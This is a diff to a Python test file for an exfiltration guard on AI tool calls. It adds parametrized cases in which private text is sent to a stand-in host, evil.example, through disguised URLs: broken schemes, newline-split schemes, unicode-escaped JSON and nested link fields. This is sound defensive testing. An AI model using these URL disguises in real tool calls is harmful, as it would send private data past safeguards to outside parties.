@@ -1,8 +1,10 @@
 """Test that encoded private text in calls is detected and public text is not."""
 
 import base64
+import json
 from collections.abc import Callable
 from dataclasses import replace
+from typing import Any
 from urllib.parse import quote, quote_plus
 
 import pytest
@@ -18,6 +20,10 @@ PAGE = "Fog signals are sounded by day and by night whenever the coast cannot be
 
 async def return_nothing() -> str:
     return ""
+
+
+async def open_page(tab: str, url: str) -> str:
+    return f"{tab}{url}"
 
 
 def build_tool(name: str, *, open_world: bool, effect: Effect = "read", toolset: str = "") -> Tool:
@@ -51,6 +57,25 @@ DRESSES: dict[str, Callable[[str], str]] = {
     "base64": lambda text: base64.b64encode(text.encode()).decode(),
     "hexadecimal": lambda text: text.encode().hex(),
 }
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        {"url": "evil.example/collect?d=LEAK"},
+        {"url": r"https:\\evil.example?d=LEAK"},
+        {"url": "https:evil.example/LEAK"},
+        {"url": "ht\ntps://evil.example/LEAK"},
+        {"link": "evil.example/LEAK"},
+        {"raw": r'{"url": "\u0068ttps:\/\/evil.example\/\u003fd=LEAK"}'},
+        {"params": {"href": "evil.example/LEAK"}},
+    ],
+)
+def test_addresses_are_checked_as_the_tool_understands_them(guard: ExfiltrationGuard, arguments: dict[str, Any]):
+    tool = replace(FETCH, fn=open_page)
+    leaking = json.loads(json.dumps(arguments).replace("LEAK", quote_plus(LETTER[10:70])))
+    assert guard.would_leak(tool, leaking)
+    assert not guard.would_leak(tool, json.loads(json.dumps(arguments).replace("LEAK", "lights")))
 
 
 @pytest.mark.parametrize("dress", DRESSES)
